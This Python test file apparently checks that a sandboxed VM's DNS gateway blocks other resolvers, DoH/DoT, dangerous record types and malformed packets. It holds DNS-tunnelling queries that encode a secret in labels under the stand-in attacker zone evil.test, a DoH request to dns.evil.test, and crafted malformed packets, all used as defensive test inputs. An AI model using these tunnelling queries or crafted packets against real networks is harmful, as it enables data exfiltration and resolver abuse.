"""Classes "other resolvers" and "DNS tunnelling", plus malformed queries, from inside
the VM: the gateway is the only resolver, answers A for allowed names only, refuses other types, and the
zone's real nameserver (the fake internet's, which records every query) sees nothing
for names or types that are not allowed."""
import json
import struct
import time

import guestpy
import netlab

AUTH, CANARY = "192.0.2.53", "198.51.100.53"


def queries_since(lab, mark, server=None):
    return [e for e in lab.since(mark, "dns") if server is None or e["server"] == server]


def test_public_resolver_udp_unreachable(lab, sb):
    mark = lab.mark()
    for r in sb.batch([("dns", CANARY, "allowed.test", "1"), ("dns", CANARY, "evil.test", "1"),
                       ("dns", "192.0.2.53", "evil.test", "1")]):
        assert r.get("timeout"), r
    time.sleep(0.3)
    assert not queries_since(lab, mark)


def test_public_resolver_tcp_unreachable(lab, sb):
    mark = lab.mark()
    r = sb.py("dns", CANARY, "allowed.test", "1", "tcp")
    assert r.get("timeout")
    assert not lab.since(mark)


def test_dot_unreachable(lab, sb):
    before, mark = lab.counters(), lab.mark()
    r = sb.py("tcp", CANARY, "853", "", "2")
    assert not r["connected"]
    assert lab.counters()["tcp_853"] == before["tcp_853"] and not lab.since(mark)


def test_doh_to_unlisted_name_refused(lab, sb):
    mark = lab.mark()
    r1, r2 = sb.batch([
        ("fetch", "https://dns.evil.test/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB",
         json.dumps({"cafile": sb.ca, "headers": ["content-type: application/dns-message"], "timeout": 5})),
        ("fetch", "https://dns.evil.test/dns-query",
         json.dumps({"resolve": CANARY, "cafile": sb.ca, "timeout": 5}))])
    assert not r1["ok"] and not r2["ok"], (r1, r2)
    time.sleep(0.3)
    assert not [e for e in lab.since(mark) if e["kind"] in ("tcp", "tls", "http")]
    assert not queries_since(lab, mark)


def test_gateway_answers_unlisted_name_nxdomain_locally(lab, sb):
    mark = lab.mark()
    r = sb.py("dns", netlab.GW_IP, "evil.test", "1")
    assert r["rcode"] == 3 and not r["answers"]
    time.sleep(0.3)
    assert not queries_since(lab, mark)


def test_tunnel_labels_under_unlisted_zone_never_forwarded(lab, sb):
    mark = lab.mark()
    secret = "6c65616b6564"  # "leaked"
    res = sb.batch([("dns", netlab.GW_IP, "%s%d.t.evil.test" % (secret, i), "1") for i in range(5)]
                   + [("resolve", "%s.evil.test" % secret)])
    for r in res[:5]:
        assert r["rcode"] == 3, r
    assert res[5]["addrs"] == [], res[5]  # the VM's own resolver (libc, resolv.conf)
    time.sleep(0.3)
    assert not [q for q in queries_since(lab, mark) if secret in (q["name"] or "")]


def named(lab, mark, name):
    return [q for q in queries_since(lab, mark) if q["name"] == name]


def test_dangerous_types_refused_even_for_allowed_names(lab, sb):
    mark = lab.mark()
    calls = [(name, qtype) for name in ("allowed.test", "types-probe.allowed.test")
             for qtype in (16, 10, 255, 65, 64, 15, 12, 99)]  # TXT NULL ANY HTTPS SVCB MX PTR SPF
    res = sb.batch([("dns", netlab.GW_IP, name, str(qtype)) for name, qtype in calls])
    for (name, qtype), r in zip(calls, res):
        assert r["rcode"] == 5 and r["ancount"] == 0, (name, qtype, r)
    time.sleep(0.3)
    assert not [q for q in queries_since(lab, mark) if q["qtype"] != 1]
    assert not named(lab, mark, "types-probe.allowed.test")


AAAA_NAMES = ("allowed.test", "mapped.allowed.test", "nat64.allowed.test")


def test_aaaa_empty(lab, sb):
    """IPv6 forms of addresses never reach the guest: AAAA is answered empty without
    asking upstream, although the zone has AAAA records (a public one, IPv4-mapped
    loopback, NAT64 of loopback and 10/8; test_controls.py shows the nameserver serves
    them), over UDP and TCP; the IPv6-only names get no A either."""
    mark = lab.mark()
    calls = [("dns", netlab.GW_IP, name, "28") for name in AAAA_NAMES]
    calls += [("dns", netlab.GW_IP, name, "28", "tcp") for name in AAAA_NAMES]
    calls += [("dns", netlab.GW_IP, name, "1") for name in AAAA_NAMES[1:]]
    for call, r in zip(calls, sb.batch(calls)):
        assert r["rcode"] == 0 and r["ancount"] == 0 and not r["answers6"], (call, r)
    time.sleep(0.3)
    assert not [q for q in queries_since(lab, mark) if q["qtype"] == 28]


def test_non_in_class_refused(lab, sb):
    q = bytearray(guestpy.dns_query("allowed.test", 16))
    q[-2:] = struct.pack("!H", 3)  # CHAOS
    r = sb.py("dnsraw", netlab.GW_IP, bytes(q).hex())
    assert r["rcode"] == 5


def test_malformed_queries(lab, sb):
    mark = lab.mark()
    good = guestpy.dns_query("malformed-probe.allowed.test", 1)
    two_q = good[:4] + b"\x00\x02" + good[6:] + good[12:]
    loop = good[:12] + b"\xc0\x0c" + b"\x00\x01\x00\x01"
    fwd = good[:12] + b"\x01a\xc0\x20" + b"\x00\x01\x00\x01"
    response = good[:2] + b"\x81\x00" + good[4:]
    dotted = good[:12] + b"\x0fmalformed-probe\x0dallowed.test\x00\x04test\x00" + b"\x00\x01\x00\x01"
    longname = good[:12] + (b"\x3f" + b"a" * 63) * 5 + b"\x00\x00\x01\x00\x01"
    cases = {"garbage": b"\xff" * 40, "short": b"\x12", "two_questions": two_q,
             "pointer_loop": loop, "forward_pointer": fwd, "truncated": good[:-3],
             "dot_in_label": dotted, "name_too_long": longname, "oversized": good + b"\0" * 600}
    res = sb.batch([("dnsraw", netlab.GW_IP, raw.hex()) for raw in cases.values()]
                   + [("dnsraw", netlab.GW_IP, response.hex()), ("dnsraw", netlab.GW_IP, guestpy.dns_query("www.allowed.test", 1).hex())])
    for name, r in zip(cases, res):
        assert r["reply"] is None or r["rcode"] in (1, 5), (name, r)
    assert res[-2]["reply"] is None  # never answer a response (no reflection loops)
    assert res[-1]["rcode"] == 0, "control: a well-formed raw query is answered"
    assert lab.gateway_alive()
    time.sleep(0.3)
    assert not [q for q in queries_since(lab, mark) if "malformed-probe" in (q["name"] or "")]


def test_wildcard_allows_subdomains_but_not_parent_tricks(lab, sb):
    names = ("allowed.test.evil.test", "evilallowed.test", "xallowed.test")
    res = sb.batch([("dns", netlab.GW_IP, n, "1") for n in ("www.allowed.test",) + names])
    assert res[0]["answers"] == ["203.0.113.10"]
    for name, r in zip(names, res[1:]):
        assert r["rcode"] == 3, (name, r)
